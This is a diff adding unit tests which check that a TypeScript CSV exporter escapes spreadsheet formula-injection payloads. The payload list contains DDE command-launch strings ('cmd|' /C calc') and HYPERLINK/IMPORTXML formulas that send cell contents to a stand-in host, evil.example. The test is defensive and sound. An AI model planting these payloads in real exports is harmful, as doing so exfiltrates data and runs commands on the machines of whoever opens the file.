@@ -44,6 +44,55 @@ describe('toCsv', () => {
     expect(text).toContain(`"'=HYPERLINK(""x"")";"'@SUM(A1)";`);
   });
 
+  it("neutralises OWASP's formula payloads at a cell's start and after each line break in it", () => {
+    const payloads = [
+      '=1+1',
+      "=cmd|' /C calc'!A0",
+      '=HYPERLINK("http://evil.example/?d="&A1;"Ver")',
+      "+SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+    ];
+    const cells = payloads.flatMap((payload) => [
+      payload,
+      `Recarga anulada\n${payload}`,
+      `Recarga anulada\r\n${payload}`,
+      `Recarga anulada\r${payload}`,
+      `${payload}\n${payload}`,
+    ]);
+    const rows: Row[] = cells.map((cell) => ({ name: cell, note: 'Hogar', price: 1 }));
+    const parsed = Papa.parse<string[]>(toCsv(rows, columns).slice(1), {
+      delimiter: ';',
+      newline: '\r\n',
+    }).data.slice(1, -1);
+    expect(parsed).toHaveLength(cells.length);
+    for (const [i, cell] of cells.entries()) {
+      const written = parsed[i]?.[0] ?? '';
+      // No line of the cell starts a formula: each one that would is marked as text by a "'".
+      for (let at = 0; at < written.length; at++) {
+        const lineStart = at === 0 || written[at - 1] === '\n' || written[at - 1] === '\r';
+        expect(
+          lineStart && /[=+\-@\t\r]/.test(written[at] as string),
+          JSON.stringify(written),
+        ).toBe(false);
+      }
+      // Nothing else changed: without those marks it is the cell as it was.
+      expect(written.replace(/(^|[\r\n])'/g, '$1')).toBe(cell);
+      expect(parsed[i]?.slice(1)).toEqual(['Hogar', 'USD $1,00']);
+    }
+  });
+
+  it('leaves text and numbers that start no formula as they are', () => {
+    const text = toCsv(
+      [{ name: 'a-b = c', note: "l'eau\nmás", price: -2 }],
+      [...columns, { header: 'Saldo', value: (r) => r.price }],
+    );
+    expect(text).toContain(`a-b = c;"l'eau\nmás";USD $-2,00;-2`);
+  });
+
   it('writes only the header line for no rows', () => {
     expect(toCsv([], columns)).toBe('\uFEFFNombre;Nota;Precio\r\n');
   });
